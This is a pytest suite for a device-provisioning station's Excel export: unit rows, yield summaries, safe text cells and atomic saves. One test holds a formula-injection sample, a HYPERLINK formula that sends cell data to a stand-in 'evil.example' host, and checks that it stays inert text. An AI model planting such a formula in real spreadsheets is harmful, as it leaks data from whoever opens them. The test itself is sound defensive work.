"""Lot and day workbooks built from a real journal: columns, summary figures, safe text, atomic saving."""

from __future__ import annotations

import errno
import os
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from station.records.cells import DATETIME_FORMAT
from station.records.journal import Journal
from station.records.lot_summary import lot_figures
from station.records.spreadsheet import (
    COLUMNS,
    UnknownLotError,
    WorkbookLockedError,
    WorkbookWriteError,
    build_workbook,
    save_atomically,
    write_workbook,
)
from station.records.spreadsheet_paths import lot_workbook_path, workbook_name
from station.records.unit_table import UnitRecord, UnitState

LOT = "12345-20260101-001"
OTHER_LOT = "12345-20260101-002"
START = 1_767_261_600.0  # 2026-01-01 10:00:00 UTC
ICCID = "89014103211118510720"


class Clock:
    def __init__(self) -> None:
        self.now = START

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def journal(tmp_path: Path, clock: Clock) -> Iterator[Journal]:
    with Journal(tmp_path / "journal.sqlite3", clock=clock) as opened:
        opened.open_lot(LOT, station="Line 1 Station A", product_id=12345, profile="boron.toml", operator="op-7")
        yield opened


def record(
    journal: Journal,
    clock: Clock,
    key: str,
    *results: UnitState,
    cycle: float = 40.0,
    reason: str | None = None,
    code: str | None = None,
    lot: str = LOT,
    **fields: Any,
) -> UnitRecord:
    """Run a unit through one attempt per result (the last one is its latest state)."""
    unit = None
    for result in results:
        unit, _ = journal.unit_table.begin(lot, key, **fields)
        started = clock.now
        clock.now += cycle
        unit = journal.unit_table.update(
            unit.id,
            state=result,
            reason=reason if result is UnitState.FAIL else None,
            reason_code=code if result is UnitState.FAIL else None,
            ended_at=clock.now,
            first_result=unit.first_result or result.value,
            cycle_seconds=clock.now - started,
        )
        clock.now += 5
    assert unit is not None
    return unit


def units_sheet(path: Path) -> Worksheet:
    sheet = openpyxl.load_workbook(path)["Units"]
    assert isinstance(sheet, Worksheet)
    return sheet


def rows_by_header(path: Path) -> list[dict[str, Any]]:
    sheet = units_sheet(path)
    headers = [cell.value for cell in sheet[1]]
    return [dict(zip(headers, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def summary(path: Path) -> dict[str, Any]:
    return {row[0]: row[1] for row in openpyxl.load_workbook(path)["Summary"].iter_rows(values_only=True) if row[0]}


FULL_UNIT: dict[str, Any] = {
    "serial": "P046AB123456789",
    "device_id": "e00fce68a1b2c3d4e5f60718",
    "platform": "boron",
    "device_os": "6.1.1",
    "iccid": ICCID,
    "imei": "352753090123456",
    "firmware_version": 7,
    "firmware_sha256": "ab" * 32,
    "slot": 2,
    "operator": "op-7",
    "station": "Line 1 Station A",
}


def test_units_sheet_has_one_row_per_unit_with_every_identifier_and_its_latest_state(
    journal: Journal, clock: Clock, tmp_path: Path
) -> None:
    record(journal, clock, "unit-1", UnitState.FAIL, UnitState.PASS, cycle=41.5, **FULL_UNIT)
    out = tmp_path / "lot.xlsx"

    write_workbook(journal, out, lot=LOT)

    (row,) = rows_by_header(out)
    assert {header: cell.value for header, cell in row.items()} == {
        "Lot": LOT,
        "Unit key": "unit-1",
        "Serial": "P046AB123456789",
        "Device ID": "e00fce68a1b2c3d4e5f60718",
        "Platform": "boron",
        "Device OS": "6.1.1",
        "ICCID": ICCID,
        "IMEI": "352753090123456",
        "Product firmware version": 7,
        "Firmware file SHA-256": "ab" * 32,
        "Slot": 3,  # journalled 0-based slot 2 is the operator's slot 3
        "Operator": "op-7",
        "Station": "Line 1 Station A",
        "Software version": None,
        "State": "PASS",
        "Reason code": None,
        "Reason": None,
        "Action": None,
        "Attempts": 2,
        "First result": "FAIL",
        "Started": datetime.fromtimestamp(START),
        "Ended": datetime.fromtimestamp(START + 2 * 41.5 + 5),
        "Cycle seconds": 41.5,
        "Protection on arrival": None,
        "Protection on leaving": None,
    }


def test_reason_and_action_of_a_failed_unit_are_in_its_row(journal: Journal, clock: Clock, tmp_path: Path) -> None:
    unit = record(journal, clock, "unit-1", UnitState.FAIL, reason="label does not match the device")
    journal.unit_table.update(unit.id, action="re-label the unit and scan it again")

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    (row,) = rows_by_header(tmp_path / "lot.xlsx")
    assert (row["Reason"].value, row["Action"].value) == (
        "label does not match the device",
        "re-label the unit and scan it again",
    )


@pytest.mark.parametrize("state", list(UnitState))
def test_state_column_shows_each_state_as_the_operator_sees_it(
    journal: Journal, clock: Clock, tmp_path: Path, state: UnitState
) -> None:
    record(journal, clock, "unit-1", state)

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    assert rows_by_header(tmp_path / "lot.xlsx")[0]["State"].value == state.value


def test_times_are_excel_datetimes_in_local_time_with_a_date_format(
    journal: Journal, clock: Clock, tmp_path: Path
) -> None:
    record(journal, clock, "unit-1", UnitState.PASS, cycle=30.25)
    plus_two = timezone(timedelta(hours=2))

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT, tz=plus_two)

    (row,) = rows_by_header(tmp_path / "lot.xlsx")
    assert row["Started"].is_date and row["Started"].number_format == DATETIME_FORMAT
    assert row["Started"].value == datetime(2026, 1, 1, 12, 0, 0)
    assert row["Ended"].value == datetime(2026, 1, 1, 12, 0, 30, 250_000)


def test_header_row_and_identifying_columns_are_bold_and_frozen_with_an_autofilter_over_all_rows(
    journal: Journal, clock: Clock, tmp_path: Path
) -> None:
    for index in range(3):
        record(journal, clock, f"unit-{index}", UnitState.PASS)

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    sheet = units_sheet(tmp_path / "lot.xlsx")
    assert [cell.value for cell in sheet[1]] == [column.header for column in COLUMNS]
    assert all(cell.font.b for cell in sheet[1])
    assert [cell.value for cell in sheet[1]][:2] == ["Unit key", "Serial"]
    assert sheet.freeze_panes == "C2"  # the header row and the unit key and serial stay in view
    assert sheet.auto_filter.ref == "A1:Y4"


def test_columns_are_wide_enough_for_their_identifiers(journal: Journal, clock: Clock, tmp_path: Path) -> None:
    record(journal, clock, "unit-1", UnitState.PASS, **FULL_UNIT)

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    sheet = units_sheet(tmp_path / "lot.xlsx")
    widths = {cell.value: sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]}
    assert widths["Device ID"] >= len(FULL_UNIT["device_id"])
    assert widths["ICCID"] >= len(ICCID)
    assert widths["Serial"] >= len(FULL_UNIT["serial"])
    assert widths["Firmware file SHA-256"] >= 64  # printed in full, not clipped


def test_twenty_digit_iccid_stays_text_exactly(journal: Journal, clock: Clock, tmp_path: Path) -> None:
    record(journal, clock, "unit-1", UnitState.PASS, iccid=ICCID, device_id="000000000000000000000123")

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    (row,) = rows_by_header(tmp_path / "lot.xlsx")
    assert (row["ICCID"].value, row["ICCID"].data_type) == (ICCID, "s")
    assert (row["Device ID"].value, row["Device ID"].data_type) == ("000000000000000000000123", "s")


def test_formula_in_a_label_is_stored_as_text_that_excel_never_evaluates(
    journal: Journal, clock: Clock, tmp_path: Path
) -> None:
    label = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    record(journal, clock, label, UnitState.FAIL, serial=label, reason="=1+1")

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    (row,) = rows_by_header(tmp_path / "lot.xlsx")
    for header in ("Unit key", "Serial"):
        assert (row[header].value, row[header].data_type, row[header].quotePrefix) == (label, "s", True)
    with zipfile.ZipFile(tmp_path / "lot.xlsx") as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)


@pytest.mark.parametrize("text", ["+41 79 000", "-cmd", "@SUM(A1:A9)", "\tHYPERLINK", "\r=1"])
def test_text_starting_with_a_formula_trigger_gets_the_quote_prefix(
    journal: Journal, clock: Clock, tmp_path: Path, text: str
) -> None:
    record(journal, clock, "unit-1", UnitState.PASS, serial=text)

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    (row,) = rows_by_header(tmp_path / "lot.xlsx")
    assert (row["Serial"].data_type, row["Serial"].quotePrefix) == ("s", True)


def test_ordinary_text_has_no_quote_prefix(journal: Journal, clock: Clock, tmp_path: Path) -> None:
    record(journal, clock, "unit-1", UnitState.PASS, serial="P046AB123456789")

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    assert rows_by_header(tmp_path / "lot.xlsx")[0]["Serial"].quotePrefix is False


def test_control_characters_in_a_device_reply_are_made_visible(
    journal: Journal, clock: Clock, tmp_path: Path
) -> None:
    record(journal, clock, "unit-1", UnitState.FAIL, reason="modem said \x1b[31mERROR\x00")

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    assert rows_by_header(tmp_path / "lot.xlsx")[0]["Reason"].value == "modem said \\x1b[31mERROR\\x00"


def test_summary_counts_units_per_state(journal: Journal, clock: Clock, tmp_path: Path) -> None:
    for index, state in enumerate([UnitState.PASS] * 3 + [UnitState.FAIL] * 2 + [UnitState.CLOUD_PENDING]):
        record(journal, clock, f"unit-{index}", state)
    journal.unit_table.begin(LOT, "unit-in-progress")

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    figures = summary(tmp_path / "lot.xlsx")
    assert [figures[state.value] for state in UnitState] == [1, 3, 2, 1, 0, 0]
    assert figures["Units"] == 7


def test_summary_yield_is_pass_over_tested_units(journal: Journal, clock: Clock, tmp_path: Path) -> None:
    states = [UnitState.PASS] * 3 + [UnitState.FAIL, UnitState.NOT_CONFIRMED, UnitState.CLOUD_PENDING]
    for index, state in enumerate(states):
        record(journal, clock, f"unit-{index}", state)
    journal.unit_table.begin(LOT, "unit-in-progress")

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    figures = summary(tmp_path / "lot.xlsx")
    assert figures["Units tested (PASS, FAIL, not confirmed)"] == 5
    assert figures["Yield (latest attempt PASS / tested)"] == pytest.approx(3 / 5)


def test_summary_first_pass_yield_counts_units_whose_first_result_was_pass(
    journal: Journal, clock: Clock, tmp_path: Path
) -> None:
    record(journal, clock, "first-time", UnitState.PASS)
    record(journal, clock, "second-time", UnitState.FAIL, UnitState.PASS)
    record(journal, clock, "failed", UnitState.FAIL)
    record(journal, clock, "also-first-time", UnitState.PASS)

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    figures = summary(tmp_path / "lot.xlsx")
    assert figures["First-pass yield (first attempt PASS / tested)"] == pytest.approx(2 / 4)
    assert figures["Yield (latest attempt PASS / tested)"] == pytest.approx(3 / 4)


def test_summary_median_cycle_time_is_the_middle_cycle(journal: Journal, clock: Clock, tmp_path: Path) -> None:
    for index, cycle in enumerate([30.0, 90.0, 40.0, 35.0]):
        record(journal, clock, f"unit-{index}", UnitState.PASS, cycle=cycle)

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    assert summary(tmp_path / "lot.xlsx")["Median cycle time (s)"] == pytest.approx(37.5)


def test_summary_lists_failures_by_reason_code_most_frequent_first(
    journal: Journal, clock: Clock, tmp_path: Path
) -> None:
    """A Pareto by code: sentences that embed serial numbers or ICCIDs still group under their code."""
    failures = [("verify failed at 0x80000", "flash_verify"), ("The cloud does not know SIM 8901", "cloud_refused"),
                ("verify failed at 0x80400", "flash_verify"), ("label says A, device says B", "label_mismatch"),
                ("The cloud does not know SIM 8902", "cloud_refused"), ("verify failed at 0x81000", "flash_verify")]
    for index, (reason, code) in enumerate(failures):
        record(journal, clock, f"unit-{index}", UnitState.FAIL, reason=reason, code=code)
    record(journal, clock, "no-reason", UnitState.FAIL)

    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    rows = list(openpyxl.load_workbook(tmp_path / "lot.xlsx")["Summary"].iter_rows(values_only=True))
    start = rows.index(("Failures by reason code", "Units")) + 1
    assert rows[start:] == [
        ("flash_verify", 3),
        ("cloud_refused", 2),
        ("(no code recorded)", 1),
        ("label_mismatch", 1),
    ]


def test_summary_names_the_lot_station_product_and_operator(journal: Journal, tmp_path: Path) -> None:
    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    figures = summary(tmp_path / "lot.xlsx")
    assert (figures["Lot"], figures["Station"], figures["Product"], figures["Operator"]) == (
        LOT, "Line 1 Station A", 12345, "op-7",
    )


def test_summary_of_an_empty_lot_has_no_yields() -> None:
    figures = lot_figures([])

    assert (figures.units, figures.yield_rate, figures.first_pass_yield, figures.median_cycle_seconds) == (
        0, None, None, None,
    )


def test_empty_lot_still_gets_a_header_row_and_filter(journal: Journal, tmp_path: Path) -> None:
    write_workbook(journal, tmp_path / "lot.xlsx", lot=LOT)

    sheet = units_sheet(tmp_path / "lot.xlsx")
    assert sheet.max_row == 1 and sheet.auto_filter.ref == "A1:Y1"


def test_unknown_lot_is_an_error_listing_the_known_lots(journal: Journal, tmp_path: Path) -> None:
    journal.open_lot(OTHER_LOT, station="Line 1 Station A", product_id=12345, profile="boron.toml", operator="op-7")

    with pytest.raises(UnknownLotError) as caught:
        write_workbook(journal, tmp_path / "lot.xlsx", lot="12345-19990101-001")

    assert "12345-19990101-001" in str(caught.value)
    assert f"known lots: {LOT}, {OTHER_LOT}" in str(caught.value)
    assert not (tmp_path / "lot.xlsx").exists()


def test_day_workbook_holds_the_units_of_that_date_from_every_lot(
    journal: Journal, clock: Clock, tmp_path: Path
) -> None:
    journal.open_lot(OTHER_LOT, station="Line 1 Station A", product_id=12345, profile="boron.toml", operator="op-8")
    record(journal, clock, "day-one-a", UnitState.PASS)
    record(journal, clock, "day-one-b", UnitState.FAIL, lot=OTHER_LOT)
    clock.now += 86_400
    record(journal, clock, "day-two", UnitState.PASS)

    write_workbook(journal, tmp_path / "day.xlsx", day=date(2026, 1, 1), tz=UTC)

    assert [row["Unit key"].value for row in rows_by_header(tmp_path / "day.xlsx")] == ["day-one-a", "day-one-b"]
    figures = summary(tmp_path / "day.xlsx")
    assert (figures["Date"], figures["Lot"], figures["Operator"]) == ("2026-01-01", f"{LOT}, {OTHER_LOT}", "op-7, op-8")


def write_previous(journal: Journal, clock: Clock, path: Path) -> bytes:
    record(journal, clock, "unit-1", UnitState.PASS)
    write_workbook(journal, path, lot=LOT)
    record(journal, clock, "unit-2", UnitState.PASS)
    return path.read_bytes()


def test_failure_in_the_middle_of_a_write_leaves_the_previous_workbook_intact(
    journal: Journal, clock: Clock, tmp_path: Path
) -> None:
    out = tmp_path / "out" / "lot.xlsx"
    previous = write_previous(journal, clock, out)

    def disk_full(descriptor: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    workbook = build_workbook(journal.units(LOT), [journal.lot(LOT)])  # type: ignore[list-item]
    with pytest.raises(WorkbookWriteError, match="previous workbook is unchanged"):
        save_atomically(workbook, out, fsync=disk_full)

    assert out.read_bytes() == previous
    assert os.listdir(out.parent) == ["lot.xlsx"]


def test_workbook_open_in_another_program_raises_locked_and_keeps_the_previous_one(
    journal: Journal, clock: Clock, tmp_path: Path
) -> None:
    out = tmp_path / "lot.xlsx"
    previous = write_previous(journal, clock, out)

    def held_by_excel(source: str, target: str) -> None:
        raise PermissionError(errno.EACCES, "The process cannot access the file", target)

    with pytest.raises(WorkbookLockedError, match="is open in another program") as caught:
        write_workbook(journal, out, lot=LOT, replace=held_by_excel)

    assert caught.value.path == out
    assert out.read_bytes() == previous
    assert sorted(os.listdir(tmp_path)) == ["journal.sqlite3", "journal.sqlite3-shm", "journal.sqlite3-wal", "lot.xlsx"]


def test_next_write_after_a_lock_includes_every_unit(journal: Journal, clock: Clock, tmp_path: Path) -> None:
    out = tmp_path / "lot.xlsx"
    write_previous(journal, clock, out)

    def held_by_excel(source: str, target: str) -> None:
        raise PermissionError(errno.EACCES, "locked", target)

    with pytest.raises(WorkbookLockedError):
        write_workbook(journal, out, lot=LOT, replace=held_by_excel)
    record(journal, clock, "unit-3", UnitState.PASS)
    write_workbook(journal, out, lot=LOT)

    assert [row["Unit key"].value for row in rows_by_header(out)] == ["unit-1", "unit-2", "unit-3"]


def test_locked_error_survives_crossing_a_process_boundary() -> None:
    import pickle

    error = WorkbookLockedError("workbook X is open in another program", Path("X.xlsx"))

    copy = pickle.loads(pickle.dumps(error))

    assert (str(copy), copy.path) == ("workbook X is open in another program", Path("X.xlsx"))


def test_workbook_names_avoid_characters_file_systems_refuse(tmp_path: Path) -> None:
    assert workbook_name('lot:7/"a"?') == "lot_7_a_.xlsx"
    assert lot_workbook_path(tmp_path, "12345-20260101-001") == tmp_path / "12345-20260101-001.xlsx"
